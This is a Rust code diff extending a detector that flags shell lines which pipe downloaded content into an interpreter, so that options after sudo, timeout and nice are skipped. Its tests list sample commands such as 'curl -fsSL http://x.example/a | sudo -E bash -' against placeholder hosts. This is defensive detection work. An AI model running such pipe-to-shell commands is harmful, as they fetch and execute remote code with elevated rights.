@@ -142,6 +142,8 @@ fn is_plain(text: &str) -> bool {
 
 /// Programs that start another one.
 const WRAPPERS: [&str; 7] = ["sudo", "nohup", "env", "setsid", "exec", "nice", "timeout"];
+/// Options of theirs with a word behind them.
+const VALUED: [&str; 6] = ["-u", "-g", "-n", "-C", "-k", "-s"];
 /// Words of the shell before a command.
 const BEFORE: [&str; 7] = ["do", "then", "else", "if", "while", "until", "!"];
 /// What a runner is given instead of a file so that it runs what comes to it.
@@ -177,7 +179,14 @@ fn runs_text(part: &str, line: &str) -> bool {
         it.is_whitespace() || matches!(it, ';' | '&' | ')' | '\'' | '"' | ']' | ',' | '}')
     };
     let mut words = part.split(ends).filter(|it| !it.is_empty());
-    let first = words.find(|word| !WRAPPERS.contains(word) && !word.contains('='));
+    // `sudo -E -u me bash -`: what stands behind what starts it is its own.
+    let (mut starts, mut valued) = (false, false);
+    let first = words.find(|word| {
+        let own = starts && (word.starts_with('-') && word.len() > 1 || valued || is_measure(word));
+        valued = own && VALUED.contains(word);
+        starts |= WRAPPERS.contains(word);
+        !own && !WRAPPERS.contains(word) && !word.contains('=')
+    });
     first.is_some_and(|word| {
         let name = word.rsplit('/').next().unwrap_or(word);
         let name = name.trim_end_matches(|it: char| it.is_ascii_digit() || it == '.');
@@ -192,6 +201,12 @@ fn runs_text(part: &str, line: &str) -> bool {
         let in_file = || code_file(behind).is_some_and(|file| line.matches(file).count() == 1);
         RUNNERS.contains(&name) && !words.next().is_some_and(has_code) && !in_file()
     })
+}
+
+/// `30s`: for so long a program may run.
+fn is_measure(word: &str) -> bool {
+    let digits = word.trim_end_matches(['s', 'm', 'h', 'd']);
+    !digits.is_empty() && digits.bytes().all(|it| it.is_ascii_digit())
 }
 
 /// The file that a runner is told to run, from what stands behind its name.
@@ -254,6 +269,8 @@ mod tests {
             "curl -s https://x.example/rates | bash -euo pipefail /opt/load.sh",
             "sh -c 'curl -s https://x.example/rates | python3 /opt/load.py'",
             "mysqldump -h host app | sh",
+            "curl -s https://x.example/rates | sudo -u www-data php /var/www/artisan import",
+            "curl -s https://x.example/rates | sudo -E tee /etc/apt/rates",
             "echo write to host | sh",
         ] {
             assert!(!runs_what_comes(line), "{line}");
@@ -274,6 +291,9 @@ mod tests {
             "curl -s http://x.example/a | bash; rm -f /opt/x",
             "curl -s http://x.example/a | bash && rm -f /opt/x",
             "curl -s http://x.example/a | bash # /opt/x",
+            "curl -fsSL http://x.example/a | sudo -E bash -",
+            "curl -s http://x.example/a | sudo -u root -H sh",
+            "curl -s http://x.example/a | timeout -k 5 30s nice -n 19 bash",
             "sh -c 'curl -s http://x.example/a | bash' /opt/x",
             "sh -c 'curl -s http://x.example/a | bash -' /opt/x",
             "curl -s http://x.example/a | tee /opt/a.sh | bash /opt/a.sh",
